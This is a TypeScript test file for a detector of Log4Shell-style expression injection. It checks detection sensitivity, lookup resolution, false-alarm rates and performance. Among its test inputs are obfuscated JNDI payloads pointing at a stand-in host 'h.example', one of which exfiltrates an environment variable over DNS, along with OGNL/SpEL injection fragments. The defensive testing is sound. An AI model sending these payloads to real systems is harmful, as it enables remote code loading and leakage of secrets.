// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts have what looks like a placeholder
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { SENSITIVITIES, somewhere } from '../classes/class.ts';
import { expressionInjection } from '../classes/expression-injection.ts';
import { Judge } from '../judge.ts';
import { HONEST } from '../template/honest.ts';
import { benignValues } from '../testing/benign.ts';
import { EXPRESSION_INJECTION } from '../testing/cases/expression-injection.ts';
import { corporaMissing, httpParams, libinjection } from '../testing/corpora.ts';
import { resolveLookups } from './lookups.ts';
import { expressionSteps } from './search.ts';

const QUERY = somewhere('query');
const BODY = somewhere('body');
const [low, judge, high] = SENSITIVITIES.map((level) => new Judge([expressionInjection], level)) as [
  Judge,
  Judge,
  Judge,
];

describe('expression injection', () => {
  it('finds the cases', () => {
    for (const { what, text, place } of EXPRESSION_INJECTION) {
      const where = { ...QUERY, ...place };
      assert.equal(judge.find(text, where)?.class, 'expression-injection', `${what}: ${text}`);
      assert.ok(high.find(text, where), text);
    }
    assert.ok(low.find('${${lower:j}ndi:ldap://h.example}', QUERY));
    assert.equal(low.find('${7*7}', QUERY), undefined);
  });

  it('resolves lookups as loggers do', () => {
    for (const text of ['${jndi:x}', '${j${q:-n}di:x}', '${${q:-jndi}:x}', '${q:-$${jndi:x}}', '${${::-${::-j}}ndi:x}'])
      assert.equal(resolveLookups(text).reaches, 'jndi', text);
    for (const text of ['${q:-w}', '${a:b}', '$ {jndi:x}', '${jnd:i}', '{jndi:x}', 'jndi:ldap://x', '${}', '${'])
      assert.equal(resolveLookups(text).reaches, '', text);
    assert.equal(resolveLookups('${XDG:-${HOME:-/root}/.config}').hides, false);
    assert.equal(resolveLookups('${::-j}').hides, true);
    // Nested deeper than is followed: no end, no error.
    assert.equal(resolveLookups('${'.repeat(100_000)).reaches, '');
  });

  it('knows that settings files ask for the environment', () => {
    assert.ok(judge.find('${env:HOME}', QUERY));
    assert.equal(judge.find('${env:HOME}/bin', BODY), undefined);
    assert.ok(high.find('${env:HOME}/bin', BODY));
    assert.ok(judge.find('${jndi:dns://${env:HOME}.h.example}', BODY));
  });

  it('leaves templates, settings and code alone', () => {
    for (const text of HONEST) assert.equal(judge.find(text, BODY), undefined, text);
    for (const text of ['class.name', 'classroom.module', 'class', 'subclass.classLoaders'])
      assert.equal(judge.find(text, { ...QUERY, key: true }), undefined, text);
  });

  it('has no false alarm on friendly values', { skip: corporaMissing }, () => {
    const values = [
      ...benignValues(5000),
      ...httpParams().filter(({ type }) => type === 'norm'),
      ...libinjection('false_positives').flatMap(({ texts }) => texts.map((text) => ({ text }))),
    ];
    assert.deepEqual(
      values.filter(({ text }) => judge.find(text, BODY) !== undefined),
      [],
    );
  });

  const PIECES = [
    '${',
    '}',
    ':-',
    ':',
    'jndi',
    'lower:',
    '::-',
    '$$',
    '%{',
    '#{',
    '(',
    '#a=',
    '@a.b@',
    'T(java.',
    '"',
    "'",
  ];

  it('costs in proportion to the length, whatever is repeated', () => {
    for (const a of PIECES) {
      for (const b of PIECES) {
        const text = (a + b).repeat(Math.ceil(2000 / (a + b).length));
        const before = expressionSteps();
        judge.find(text, BODY);
        assert.ok(expressionSteps() - before <= (text.length * 32 + 20_000) * 4, JSON.stringify([a, b]));
      }
    }
  });

  it('never throws and answers the same for the same text', () => {
    const text = fc.array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ unit: 'binary', maxLength: 4 })), {
      maxLength: 100,
    });
    fc.assert(
      fc.property(text, fc.boolean(), (pieces, key) => {
        const value = pieces.join('');
        const place = { ...QUERY, key };
        const found = high.find(value, place);
        assert.deepEqual(found, high.find(value, place));
        if (low.find(value, place)) assert.ok(judge.find(value, place));
        if (judge.find(value, place)) assert.ok(found);
      }),
      { numRuns: 500 },
    );
  });
});
